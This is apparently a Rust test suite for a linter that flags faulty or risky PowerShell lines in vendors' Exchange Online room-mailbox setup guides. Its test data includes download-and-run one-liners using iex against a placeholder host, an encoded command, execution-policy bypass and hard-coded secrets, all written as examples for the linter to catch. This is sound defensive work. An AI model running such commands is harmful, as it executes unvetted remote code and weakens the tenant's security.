//! What the rules find in the vendors' own lines, and what they leave alone.

use std::fmt::Write as _;

use proptest::prelude::*;

use super::*;

/// A line for each remark: place, severity, rule, the words it is about, what was found, what to run instead.
fn told(text: &str) -> String {
    let mut out = String::new();
    for remark in read(text).remarks {
        let words = &text[remark.span.clone()];
        let _ = writeln!(
            out,
            "{}:{}-{}:{} {:?} {} | {words} | {}",
            remark.line, remark.column, remark.end.0, remark.end.1, remark.rule.severity, remark.rule.id, remark.found
        );
        for line in &remark.instead {
            let _ = writeln!(out, "    {line}");
        }
    }
    out
}

fn rules(text: &str) -> Vec<&'static str> {
    read(text).remarks.iter().map(|remark| remark.rule.id).collect()
}

fn guide(name: &str) -> String {
    let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/guides/");
    std::fs::read_to_string(format!("{folder}{name}.ps1.txt")).unwrap()
}

#[test]
fn rules_are_sorted_complete_and_speak_plainly() {
    assert!(RULES.is_sorted_by_key(|rule| rule.id));
    for rule in RULES {
        assert_eq!(Rule::named(rule.id), Some(*rule));
        assert!(rule.id.chars().all(|c| c.is_ascii_lowercase() || c == '-'), "{}", rule.id);
        assert!(rule.why.ends_with('.') && !rule.finds.ends_with('.') && !rule.source.is_empty(), "{}", rule.id);
    }
}

#[test]
fn dates_come_from_the_one_table() {
    use crate::powershell::cmdlets::withdrawals;
    use crate::tenant::Retirement;
    for one in withdrawals() {
        if let Some(id) = &one.retirement {
            assert!(Retirement::named(id).is_some(), "{id}");
        }
    }
    assert!(rules::APPLICATION_IMPERSONATION.reason().contains("February 2025"));
    assert!(rules::APPLICATION_ACCESS_POLICY.reason().contains("has set no date"));
}

#[test]
fn the_lines_of_spacewell() {
    insta::assert_snapshot!(told(&guide("spacewell")));
}

#[test]
fn the_lines_of_ioffice() {
    insta::assert_snapshot!(told(&guide("ioffice")));
}

#[test]
fn the_lines_of_spaceiq() {
    insta::assert_snapshot!(told(&guide("spaceiq")));
}

#[test]
fn the_lines_of_roomz() {
    insta::assert_snapshot!(told(&guide("roomz")));
}

/// Lines that are right as they stand: nothing above a note may be said about them.
const RIGHT: &[&str] = &[
    "Connect-ExchangeOnline -UserPrincipalName admin@firm.com",
    "Install-Module -Name ExchangeOnlineManagement -MinimumVersion 3.0.0 -Scope CurrentUser",
    "Import-Module ExchangeOnlineManagement",
    "Set-CalendarProcessing -Identity board@firm.com -AutomateProcessing AutoAccept -BookingWindowInDays 730",
    "Set-CalendarProcessing -Identity board -DeleteSubject $false -AddOrganizerToSubject:$false -ErrorAction Stop",
    "Get-Mailbox -RecipientTypeDetails RoomMailbox -ResultSize Unlimited | Set-CalendarProcessing -DeleteComments $false",
    "Get-Mailbox -ResultSize unlimited -Filter \"RecipientTypeDetails -eq 'RoomMailbox'\" | Format-Table Name, Alias",
    "New-DistributionGroup -Name 'Sync rooms' -Alias syncrooms -Type Security -PrimarySmtpAddress syncrooms@firm.com",
    "New-DistributionGroup -Name \"Meeting Rooms\" -RoomList",
    "Add-DistributionGroupMember -Identity 'Meeting Rooms' -Member board@firm.com",
    "Set-DistributionGroup -Identity 'Meeting Rooms' -HiddenFromAddressListsEnabled $false",
    "Set-Mailbox -Identity board -EmailAddresses @{ Add = 'b@firm.com' }",
    "Add-MailboxFolderPermission -Identity board@firm.com:\\Calendar -User sync@firm.com -AccessRights Editor \
     -SharingPermissionFlags Delegate,CanViewPrivateItems",
    "Set-MailboxFolderPermission board@firm.com:\\Calendar -User Default -AccessRights LimitedDetails",
    "New-ServicePrincipal -AppId 7b1e0000-0000-4000-8000-000000000001 -ObjectId 7b1e0000-0000-4000-8000-000000000002",
    "New-ManagementScope -Name Rooms -RecipientRestrictionFilter \"RecipientTypeDetails -eq 'RoomMailbox'\"",
    "New-ManagementRoleAssignment -App $sp.ObjectId -Role 'Application Calendars.ReadWrite' -CustomResourceScope Rooms",
    "Test-ServicePrincipalAuthorization -Identity $sp.AppId -Resource board@firm.com | Format-Table",
    "Test-ApplicationAccessPolicy -Identity board@firm.com -AppId 7b1e0000-0000-4000-8000-000000000001",
    "$policy = (Get-CalendarProcessing -Identity board).BookInPolicy + 'ann@firm.com'",
    "Set-CalendarProcessing -Identity board -BookInPolicy $policy -AllBookInPolicy $true",
    "Connect-MgGraph -Scopes 'Application.Read.All', 'AppRoleAssignment.ReadWrite.All' -NoWelcome",
    "Get-MgServicePrincipal -Filter \"displayName eq 'Room sync'\" -All",
    "New-MgServicePrincipalAppRoleAssignment -ServicePrincipalId $a -PrincipalId $a -ResourceId $b -AppRoleId $c",
    "Import-Csv rooms.csv | ForEach-Object { Set-Place -Identity $_.Room -Capacity 12 -Floor 3 }",
    "Import-Csv -Path .\\rooms.csv -Delimiter ';' | foreach { Write-Host \"$($_.Name): $($_.Mail)\" }",
    "foreach ($room in $rooms) { New-Mailbox -Name $room.Name -Room -DisplayName \"Room $($room.Name)\" }",
    "Get-CalendarProcessing board | fl *",
    "Get-DistributionGroup -RecipientTypeDetails RoomList -ResultSize Unlimited | select Name, PrimarySmtpAddress",
    "if (-not (Get-Module ExchangeOnlineManagement)) { Import-Module ExchangeOnlineManagement }",
    "try { Get-Mailbox board -ErrorAction Stop | Out-Null } catch { Write-Warning $_.Exception.Message }",
    "$parameters = @{ Identity = 'board'; DeleteSubject = $false }; Set-CalendarProcessing @parameters",
    "function Set-Everything { param([string]$Name) Get-Mailbox $Name }\nSet-Everything -Name board",
    "Get-Mailbox board | Set-CalendarProcessing `\n    -DeleteSubject $false `\n    -AddOrganizerToSubject $false",
    "Get-Mailbox -RecipientTypeDetails RoomMailbox -ResultSize Unlimited |\n    Set-CalendarProcessing -DeleteSubject $false",
];

#[test]
fn nothing_is_said_about_lines_that_are_right() {
    for line in RIGHT {
        let reading = read(line);
        assert!(!reading.commands.is_empty(), "{line}");
        assert_eq!(told(line), "", "{line}");
    }
    // Nor when they are one script.
    assert_eq!(told(&RIGHT.join("\r\n")), "");
}

/// Lines that are wrong, and every rule that says so.
const WRONG: &[(&str, &[&str])] = &[
    ("Set-CalendarProcesing -Identity a", &["misspelt-command"]),
    ("Do-Something -Fast", &["unknown-command"]),
    ("Set-CalendarProcessing -Identity a -DeleteSubjekt $false", &["unknown-parameter"]),
    ("Set-CalendarProcessing -Identity a -Delete $false", &["ambiguous-parameter"]),
    ("Set-CalendarProcessing -Ident a -DeleteSubject $false", &["shortened-parameter"]),
    ("Set-CalendarProcessing -Identity a -DeleteSubject false", &["wrong-type"]),
    ("Set-CalendarProcessing -Identity a -BookingWindowInDays 1081", &["value-out-of-range"]),
    ("Set-CalendarProcessing -Identity a -AutomateProcessing Auto-Accept", &["value-not-in-list"]),
    ("Set-CalendarProcessing -Identity a -DeleteSubject $true -DeleteSubject $false", &["repeated-parameter"]),
    ("New-DistributionGroup -Name a -RoomList $true", &["switch-with-value"]),
    ("New-DistributionGroup -Name Meeting Rooms -RoomList", &["stray-value"]),
    ("Set-CalendarProcessing -DeleteSubject $false", &["missing-parameter"]),
    ("Set-CalendarProcessing -Identity a -DeleteSubject", &["missing-value"]),
    ("Set-CalendarProcessing -Identity '' -DeleteSubject $true", &["empty-value"]),
    ("Set-CalendarProcessing -Identity a -AddOrganizerToSubject $false-DeleteSubject $false", &["joined-words"]),
    ("Set-CalendarProcessing -Identity \u{201c}a\u{201d} -DeleteSubject $false", &["typographic-quote"]),
    ("Set-CalendarProcessing \u{2013}Identity a -DeleteSubject $false", &["typographic-dash"]),
    ("Set-CalendarProcessing -Identity a \u{2212}DeleteSubject $false", &["no-dash"]),
    ("Set\u{2013}CalendarProcessing -Identity a", &["no-dash"]),
    ("Set-CalendarProcessing -Identity 'a -DeleteSubject $false", &["unclosed-quote"]),
    ("Get-Mailbox a | ForEach-Object { $_.Name", &["unclosed-bracket"]),
    ("Get-Mailbox a | ForEach-Object { $_.Name }}", &["unopened-bracket"]),
    ("Set-CalendarProcessing -Identity a\n  -DeleteSubject $false", &["broken-line"]),
    ("Connect-ExchangeOnline |", &["trailing-pipe"]),
    ("Connect ExchangeOnline -UserPrincipalName a@firm.com", &["missing-hyphen"]),
    ("Connect-ExchangeOnline UserPrincipalName a@firm.com", &["missing-hyphen"]),
    ("Get-Mailbox a Set-CalendarProcessing -DeleteSubject $true -Identity a", &["lost-line-break"]),
    ("Set-CalendarProcessing -Identity <alias> -DeleteSubject $false", &["placeholder"]),
    ("Get-Mailbox room@yourtenant.onmicrosoft.com", &["placeholder"]),
    ("Get-Mailbox room@contoso.com", &["sample-name"]),
    ("Get-Mailbox | Format-List", &["results-cut-off"]),
    ("Get-DistributionGroupMember -Identity Rooms", &["results-cut-off"]),
    ("Get-Mailbox -ResultSize Unlimited | ? Alias -eq 'a'", &["filtered-afterwards"]),
    ("Get-MailboxFolderPermission a -DomainController b", &["on-premises-only"]),
    ("Get-Content a.json | ConvertFrom-Json -AsHashtable", &["newer-powershell"]),
    ("Set-CalendarProcessing -Identity a -ResourceDelegates 'ann@firm.com'", &["replaced-list"]),
    ("Set-Mailbox a -EmailAddresses 'b@firm.com'", &["replaced-list"]),
    ("Set-CalendarProcessing -Identity a -AllBookInPolicy $false", &["booking-closed-to-all"]),
    ("Remove-Mailbox -Identity a", &["mailbox-removal"]),
    ("Update-DistributionGroupMember Rooms", &["replaced-members"]),
    ("New-ManagementRoleAssignment -Role ApplicationImpersonation -User sync", &["application-impersonation"]),
    ("New-RoleGroup -Name Sync -Roles ApplicationImpersonation", &["application-impersonation"]),
    ("Connect-MsolService", &["msonline-or-azuread"]),
    ("Get-AzureADUser -ObjectId a", &["msonline-or-azuread"]),
    ("Install-Module MSOnline", &["msonline-or-azuread"]),
    ("Install-Module ExchangeOnlineManagement -RequiredVersion 2.0.5", &["outdated-module"]),
    ("Import-PSSession $Session", &["remote-powershell"]),
    ("Connect-ExchangeOnline -Credential $c", &["password-sign-in"]),
    (
        "$s = New-PSSession -ConfigurationName Microsoft.Exchange -ConnectionUri https://outlook.office365.com/powershell-liveid/ \
         -Credential $c -Authentication Basic -AllowRedirection",
        &["remote-powershell", "basic-authentication"],
    ),
    ("New-ManagementRoleAssignment -App $a -Role 'Application EWS.AccessAsApp'", &["ews-access"]),
    ("iex $text", &["text-run-as-code"]),
    ("iex ((New-Object Net.WebClient).DownloadString('https://a.b/c'))", &["downloaded-code"]),
    ("Invoke-RestMethod https://a.b/c | iex", &["downloaded-code"]),
    ("Set-ExecutionPolicy Unrestricted", &["execution-policy"]),
    ("powershell.exe -ExecutionPolicy Bypass -File setup.ps1", &["execution-policy"]),
    ("powershell -enc SQBFAFgA", &["encoded-command"]),
    ("$secret = 'aB3~xyz'", &["plain-secret"]),
    ("ConvertTo-SecureString 'aB3~xyz' -AsPlainText -Force", &["plain-secret"]),
    (
        "Add-MgApplicationPassword -ApplicationId $a -PasswordCredential @{ endDateTime = (Get-Date).AddYears(99) }",
        &["endless-secret"],
    ),
    ("Get-Mailbox -ResultSize Unlimited -Filter \"MemberOfGroup -eq '$dn'\"", &["scope-of-direct-members"]),
    ("Search-Mailbox a -DeleteContent", &["retired-command"]),
    (
        "New-ApplicationAccessPolicy -AppId $a -AccessRight RestrictAccess -PolicyScopeGroupId $g",
        &["application-access-policy"],
    ),
    (
        "New-DistributionGroup -Name Sync\nNew-ApplicationAccessPolicy -AppId $a -AccessRight RestrictAccess \
         -PolicyScopeGroupId Sync",
        &["application-access-policy", "list-as-policy-scope"],
    ),
    (
        "foreach ($r in $rooms) { New-ApplicationAccessPolicy -AppId $a -AccessRight RestrictAccess -PolicyScopeGroupId $r }",
        &["application-access-policy", "policy-for-each-room"],
    ),
    (
        "Set-CalendarProcessing -Identity conf1@firm.com -DeleteSubject $true\nNew-ApplicationAccessPolicy -AppId $a \
         -AccessRight RestrictAccess -PolicyScopeGroupId conf1@firm.com",
        &["application-access-policy", "policy-for-each-room", "room-as-policy-scope"],
    ),
    ("Get-ManagementRoleAssignment -RoleAssignee a -GetEffectiveUsers -Identity b", &["conflicting-parameters"]),
    ("Write-Host \"`u{zz}\"", &["unreadable"]),
];

#[test]
fn each_fault_is_told_by_its_rule_and_by_no_other() {
    for (line, wanted) in WRONG {
        assert_eq!(rules(line), *wanted, "{line}\n{}", told(line));
    }
}

#[test]
fn every_rule_is_shown_to_work() {
    let shown: Vec<&str> = WRONG.iter().flat_map(|(_, rules)| rules.iter().copied()).collect();
    // These are shown by the vendors' own lines, or need what PowerShell itself cannot be given in one line.
    let elsewhere = ["missing-space", "dangerous-command"];
    for rule in RULES {
        assert!(shown.contains(&rule.id) || elsewhere.contains(&rule.id), "{}", rule.id);
    }
}

#[test]
fn commands_are_found_in_the_prose_of_a_guide() {
    let guide = "Setting up the sync\n\
                 ===================\n\
                 The Add-MailboxFolderPermission cmdlet lets you set rights. Don't forget it's per folder.\n\n\
                 1. Run `Import-Module ExchangeOnlineManagement` and then *Get-Mailbox -Identity a*.\n\
                 2. Execute Set-CalendarProcessing -Identity a -DeleteSubject $false.\n\n\
                 New-DistributionGroup -Name \u{201c}Rooms\u{201d} -RoomList\n\n\
                 PS C:\\> Get-Place -Identity a\n\
                 Name : a\n\n\
                 ```powershell\n$a = @{\n    Name = 'x'\n}\nNew-Mailbox @a -Room\n```\n\n\
                 Get-Place is what you need then, isn't it?\n";
    let reading = read(guide);
    let found: Vec<(&str, usize, usize)> =
        reading.commands.iter().map(|one| (one.name.as_str(), one.line, one.column)).collect();
    assert_eq!(
        found,
        [
            ("Import-Module", 5, 9),
            ("Get-Mailbox", 5, 59),
            ("Set-CalendarProcessing", 6, 12),
            ("New-DistributionGroup", 8, 1),
            ("Get-Place", 10, 9),
            ("New-Mailbox", 17, 1),
        ]
    );
    assert_eq!(rules(guide), ["typographic-quote"]);
}

#[test]
fn a_line_that_lacks_a_bracket_does_not_swallow_the_next() {
    let text = "Import-Csv a.csv | foreach { Get-Mailbox $_.Alias\n\nUpdate-DistributionGroupMember Rooms\n";
    assert_eq!(rules(text), ["unclosed-bracket", "replaced-members"]);
}

#[test]
fn places_hold_in_texts_with_wide_characters_and_every_line_end() {
    let text = "# Ñandú 会議室\r\nGet-Place -Idntity 'Ñ' # x\rGet-Place -Idntity b";
    let places: Vec<_> = read(text).remarks.iter().map(|one| (one.line, one.column, one.end)).collect();
    assert_eq!(places, [(2, 11, (2, 19)), (3, 11, (3, 19))]);
}

proptest! {
    #[test]
    fn any_text_is_read_without_a_panic_and_remarks_point_into_it(
        text in prop_oneof![
            any::<String>(),
            "([ -~\u{2018}-\u{201d}\u{2013}ñ\n\r|{}()\\[\\]<>$'\"`,;@#-]|Get-Mailbox |Set-CalendarProcessing -Identity |PS C:> |-DeleteSubject\\$|\\$false){0,40}",
        ]
    ) {
        let reading = read(&text);
        for remark in &reading.remarks {
            prop_assert!(text.get(remark.span.clone()).is_some(), "{remark:?}");
            prop_assert!(remark.line >= 1 && remark.column >= 1 && (remark.line, remark.column) <= remark.end);
        }
    }
}

#[test]
fn a_script_with_words_in_it_is_read_whole() {
    let script = "<#\n.SYNOPSIS\nSets every room, and doesn't ask.\n#>\nparam(\n    [string]$Name = 'x'\n)\n\n\
                  # It's what the guide says.\nfunction Write-Note {\n    param($Text)\n    Write-Host $Text\n    return\n}\n\n\
                  $about = @'\nDon't run this {twice\n'@\n\n$rooms = @(\n    @{\n        Id = 'a'\n    }\n)\n\
                  foreach ($room in $rooms) {\n\n    Write-Note \"Room $($room.Id) isn't done\"\n    \
                  Set-CalendarProcessing -Identity $room.Id -DeleteSubject $false\n}\nthrow 'All of this is done now'\n";
    assert_eq!(told(script), "");
    let names: Vec<String> = read(script).commands.into_iter().map(|one| one.name).collect();
    assert_eq!(names, ["Write-Host", "Write-Note", "Set-CalendarProcessing"]);
}
